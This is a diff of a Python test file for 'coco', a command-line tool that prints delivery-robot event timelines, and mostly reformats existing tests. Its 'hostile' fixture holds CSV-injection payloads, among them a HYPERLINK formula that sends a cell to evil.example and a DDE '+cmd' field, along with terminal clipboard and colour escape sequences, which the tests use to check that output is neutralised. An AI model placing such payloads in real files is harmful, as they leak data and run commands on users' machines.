@@ -32,12 +32,21 @@ OSC52 = "\u001b]52;c;ZXZpbA==\u0007"
 def hostile(tmp_path: Path) -> Path:
     records = [
         {"event": "demand.assigned", "timestamp": "2026-11-25T10:00:00Z", "delivery_id": "DX1", "robot_id": "R-1"},
-        {"event": "delivery.failed", "timestamp": "2026-11-25T10:01:00Z", "delivery_id": "DX1",
-         "error": {"code": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "message": EVIL_MESSAGE}},
-        {"event": EVIL_NAME, "timestamp": "2026-11-25T10:02:00Z", "delivery_id": "DX1", "note": OSC52,
-         "merchant_id": "+cmd|' /C calc'!A0"},
-        {"event": "delivery.dropoff_started", "timestamp": "2026-11-25T10:03:00Z", "delivery_id": "DX1",
-         "robot_id": "R-1\u001b[31m", "kubernetes": {"pod_labels": {"team": "x" * 500}}, "message": "raw line"},
+        {
+            "event": "delivery.failed",
+            "timestamp": "2026-11-25T10:01:00Z",
+            "delivery_id": "DX1",
+            "error": {"code": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "message": EVIL_MESSAGE},
+        },
+        {"event": EVIL_NAME, "timestamp": "2026-11-25T10:02:00Z", "delivery_id": "DX1", "note": OSC52, "merchant_id": "+cmd|' /C calc'!A0"},
+        {
+            "event": "delivery.dropoff_started",
+            "timestamp": "2026-11-25T10:03:00Z",
+            "delivery_id": "DX1",
+            "robot_id": "R-1\u001b[31m",
+            "kubernetes": {"pod_labels": {"team": "x" * 500}},
+            "message": "raw line",
+        },
     ]
     store = tmp_path / "s.duckdb"
     load(store, [write_lines(tmp_path / "a" / "x.jsonl", records)])
@@ -84,7 +93,7 @@ def test_escape_sequences_on_a_terminal_come_only_from_coco_colours(hostile: Pat
     sequences = set()
     i = raw.find(b"\x1b")
     while i != -1:
-        sequences.add(raw[i:i + 2])
+        sequences.add(raw[i : i + 2])
         i = raw.find(b"\x1b", i + 1)
     assert sequences <= {b"\x1b["}  # colour (CSI ... m) only: no OSC title, hyperlink or clipboard
     assert b"\x07" not in raw and b"\x1b]" not in raw
@@ -93,7 +102,7 @@ def test_escape_sequences_on_a_terminal_come_only_from_coco_colours(hostile: Pat
 def test_csv_neutralises_formula_prefixes_and_csv_raw_keeps_the_exact_bytes(hostile: Path) -> None:
     safe = read_csv(run_coco("timeline", "DX1", "--store", str(hostile), "-f", "csv").out)
     failed = next(r for r in safe if r["event"] == "delivery.failed")
-    assert failed["error_code"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert failed["error_code"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
     for row in safe:
         for column, value in row.items():
             if column not in ("offset",):
@@ -124,24 +133,30 @@ def test_a_reader_that_goes_away_ends_coco_quietly_by_sigpipe(hostile: Path) -> 
 
 def test_a_full_or_closed_stdout_is_one_line_and_exit_2(hostile: Path) -> None:
     with open("/dev/full", "w") as full:
-        r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile)], stdout=full, stderr=subprocess.PIPE,
-                           text=True, timeout=60)
+        r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile)], stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
     assert (r.returncode, r.stderr) == (2, "coco: error: cannot write the output: No space left on device\n")
-    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile)], stdout=subprocess.DEVNULL,
-                       stderr=subprocess.PIPE, text=True, timeout=60, pass_fds=(), close_fds=True,
-                       preexec_fn=lambda: os.close(1))
+    r = subprocess.run(
+        [*COCO, "timeline", "DX1", "--store", str(hostile)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+        timeout=60,
+        pass_fds=(),
+        close_fds=True,
+        preexec_fn=lambda: os.close(1),
+    )
     assert r.returncode == 2 and r.stderr == "coco: error: standard output is closed; redirect it to a file or /dev/null\n"
 
 
 def big_robot_store(tmp_path: Path) -> tuple[Path, list[str]]:
     """A store holding a robot day of 18,000 events, and the arguments of its timeline."""
-    records = [{"event": "robot.state_changed", "timestamp": f"2026-11-25T{h:02d}:{m:02d}:{s:02d}Z",
-                "robot_id": "R-BIG", "n": i} for i, (h, m, s) in
-               enumerate((h, m, s) for h in range(10, 20) for m in range(60) for s in range(0, 60, 2))]
+    records = [
+        {"event": "robot.state_changed", "timestamp": f"2026-11-25T{h:02d}:{m:02d}:{s:02d}Z", "robot_id": "R-BIG", "n": i}
+        for i, (h, m, s) in enumerate((h, m, s) for h in range(10, 20) for m in range(60) for s in range(0, 60, 2))
+    ]
     store = tmp_path / "big.duckdb"
     load(store, [write_lines(tmp_path / "a" / "big.jsonl", records)])
-    return store, ["timeline", "R-BIG", "--since", "2026-11-25T00:00Z", "--until", "2026-11-26T00:00Z", "--store",
-                   str(store)]
+    return store, ["timeline", "R-BIG", "--since", "2026-11-25T00:00Z", "--until", "2026-11-26T00:00Z", "--store", str(store)]
 
 
 @pytest.mark.parametrize("sig, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
@@ -160,8 +175,9 @@ def test_an_interrupt_while_writing_an_output_file_leaves_no_temporary_file(tmp_
     _, args = big_robot_store(tmp_path)
     out_dir = tmp_path / "out"
     out_dir.mkdir()
-    proc = subprocess.Popen([*COCO, *args, "-f", "json", "-o", str(out_dir / "t.json")], stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [*COCO, *args, "-f", "json", "-o", str(out_dir / "t.json")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+    )
     deadline = time.monotonic() + 60
     while not any(out_dir.iterdir()) and proc.poll() is None and time.monotonic() < deadline:
         time.sleep(0.001)  # until the temporary copy exists: coco is writing it
@@ -175,15 +191,40 @@ def test_an_interrupt_while_writing_an_output_file_leaves_no_temporary_file(tmp_
 
 def test_since_and_until_without_an_offset_are_read_in_the_tz_zone(hostile: Path) -> None:
     # 11:00 in Berlin (UTC+1 in November) is 10:00 UTC: the window 10:00-10:01:30 UTC holds two rows
-    berlin = run_coco("timeline", "DX1", "--store", str(hostile), "-f", "json", "--tz", "Europe/Berlin",
-                      "--since", "2026-11-25T11:00", "--until", "2026-11-25T11:01:30")
+    berlin = run_coco(
+        "timeline",
+        "DX1",
+        "--store",
+        str(hostile),
+        "-f",
+        "json",
+        "--tz",
+        "Europe/Berlin",
+        "--since",
+        "2026-11-25T11:00",
+        "--until",
+        "2026-11-25T11:01:30",
+    )
     assert berlin.code == 0, berlin.err
     assert berlin.json()["range"] == {"since": "2026-11-25T10:00:00.000Z", "until": "2026-11-25T10:01:30.000Z"}
-    utc = run_coco("timeline", "DX1", "--store", str(hostile), "-f", "json",
-                   "--since", "2026-11-25T11:00", "--until", "2026-11-25T11:01:30")
+    utc = run_coco(
+        "timeline", "DX1", "--store", str(hostile), "-f", "json", "--since", "2026-11-25T11:00", "--until", "2026-11-25T11:01:30"
+    )
     assert utc.code == 3  # the same wall-clock times in UTC hold nothing
-    explicit = run_coco("timeline", "DX1", "--store", str(hostile), "-f", "json", "--tz", "Europe/Berlin",
-                        "--since", "2026-11-25T10:00Z", "--until", "2026-11-25T10:01:30Z")
+    explicit = run_coco(
+        "timeline",
+        "DX1",
+        "--store",
+        str(hostile),
+        "-f",
+        "json",
+        "--tz",
+        "Europe/Berlin",
+        "--since",
+        "2026-11-25T10:00Z",
+        "--until",
+        "2026-11-25T10:01:30Z",
+    )
     assert explicit.json()["range"] == berlin.json()["range"]  # an explicit offset wins over --tz
 
 
@@ -196,8 +237,7 @@ def test_the_table_fits_the_terminal_width_clipping_details_first(hostile: Path,
     assert rows and all(len(line) <= 80 for line in rows), [len(x) for x in rows]
     assert rows[0].endswith("R-1")  # the ids stay; the details gave way
     monkeypatch.setenv("COLUMNS", "110")
-    rows = [line for line in run_coco("timeline", "DX1", "--store", str(hostile)).out.splitlines()
-            if line.startswith("10:0")]
+    rows = [line for line in run_coco("timeline", "DX1", "--store", str(hostile)).out.splitlines() if line.startswith("10:0")]
     assert all(len(line) <= 110 for line in rows) and rows[0].endswith("R-1")
     assert "=HYPERLINK(" in rows[1] and rows[1].endswith("…")  # details clipped, with a mark
 
@@ -211,8 +251,13 @@ def test_the_table_header_lists_the_robot_and_pilot_windows(hostile: Path) -> No
 def test_shell_completion_can_be_installed() -> None:
     r = run_coco("--help")
     assert "--install-completion" in r.out
-    done = subprocess.run([*COCO], env={**os.environ, "_COCO_COMPLETE": "complete_bash", "COMP_WORDS": "coco tim",
-                                        "COMP_CWORD": "1"}, capture_output=True, text=True, timeout=60)
+    done = subprocess.run(
+        [*COCO],
+        env={**os.environ, "_COCO_COMPLETE": "complete_bash", "COMP_WORDS": "coco tim", "COMP_CWORD": "1"},
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert "timeline" in done.stdout
 
 
@@ -223,35 +268,45 @@ def test_help_shows_no_type_noise_after_flags_or_braces_around_the_id() -> None:
 
 
 def test_usage_lines_name_arguments_without_braces_or_doubled_marks() -> None:
-    usage = {cmd: next(line.strip() for line in run_coco(*cmd.split(), "--help").out.splitlines() if "Usage:" in line)
-             for cmd in ("timeline", "load", "check", "store remove")}
-    assert usage == {"timeline": "Usage: coco timeline [OPTIONS] ID", "load": "Usage: coco load [OPTIONS] PATH...",
-                     "check": "Usage: coco check [OPTIONS] [PATH...]",
-                     "store remove": "Usage: coco store remove [OPTIONS] [PATH]"}
+    usage = {
+        cmd: next(line.strip() for line in run_coco(*cmd.split(), "--help").out.splitlines() if "Usage:" in line)
+        for cmd in ("timeline", "load", "check", "store remove")
+    }
+    assert usage == {
+        "timeline": "Usage: coco timeline [OPTIONS] ID",
+        "load": "Usage: coco load [OPTIONS] PATH...",
+        "check": "Usage: coco check [OPTIONS] [PATH...]",
+        "store remove": "Usage: coco store remove [OPTIONS] [PATH]",
+    }
     assert "<str>" not in run_coco("load", "--help").out  # an argument's name says what it takes
 
 
-def test_the_coco_command_exits_with_its_code_and_whole_output_without_the_interpreters_teardown(
-        hostile: Path, tmp_path: Path) -> None:
+def test_the_coco_command_exits_with_its_code_and_whole_output_without_the_interpreters_teardown(hostile: Path, tmp_path: Path) -> None:
     """cli._leave: the process ends by os._exit after atexit handlers ran and both streams were flushed."""
     expected = run_coco("timeline", "DX1", "--store", str(hostile), "-f", "jsonl", "--check")
     assert expected.code == 1 and expected.out.count("\n") > 3
-    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-f", "jsonl", "--check"],
-                       capture_output=True, text=True, timeout=60)
+    r = subprocess.run(
+        [*COCO, "timeline", "DX1", "--store", str(hostile), "-f", "jsonl", "--check"], capture_output=True, text=True, timeout=60
+    )
     assert (r.returncode, r.stdout) == (1, expected.out)
     out = tmp_path / "t.json"
-    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-o", str(out)], capture_output=True,
-                       text=True, timeout=60)
-    assert r.returncode == 0 and out.read_text() == run_coco("timeline", "DX1", "--store", str(hostile),
-                                                             "-f", "json").out
-    hooked = subprocess.run([sys.executable, "-c", "import atexit, sys; atexit.register(lambda: print('atexit ran')); "
-                             "sys.argv[1:] = ['--version']; from cocoevents.cli.launch import run; run()"],
-                            capture_output=True, text=True, timeout=60)
+    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-o", str(out)], capture_output=True, text=True, timeout=60)
+    assert r.returncode == 0 and out.read_text() == run_coco("timeline", "DX1", "--store", str(hostile), "-f", "json").out
+    hooked = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "import atexit, sys; atexit.register(lambda: print('atexit ran')); "
+            "sys.argv[1:] = ['--version']; from cocoevents.cli.launch import run; run()",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert (hooked.returncode, hooked.stdout) == (0, "coco 0.1.0\natexit ran\n")
 
 
-def test_a_small_answer_leaves_the_read_only_store_open_only_when_the_process_ends_by_os_exit(
-        hostile: Path, monkeypatch) -> None:
+def test_a_small_answer_leaves_the_read_only_store_open_only_when_the_process_ends_by_os_exit(hostile: Path, monkeypatch) -> None:
     """cli.close_source: under ``run`` (os._exit follows) a read-only local store read for a small answer stays
     open (closing it only frees DuckDB's cache); a big answer, or a library caller of ``main``, closes it."""
     from cocoevents.cli import app as cli
@@ -272,6 +327,5 @@ def test_a_small_answer_leaves_the_read_only_store_open_only_when_the_process_en
         cli.close_source(source, small=small)
         assert opened() is stays and (source in cli._left_open) is stays
     # the coco command leaves it open and exits with the whole answer all the same
-    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-f", "jsonl"], capture_output=True,
-                       text=True, timeout=60)
+    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-f", "jsonl"], capture_output=True, text=True, timeout=60)
     assert (r.returncode, r.stdout) == (0, run_coco("timeline", "DX1", "--store", str(hostile), "-f", "jsonl").out)
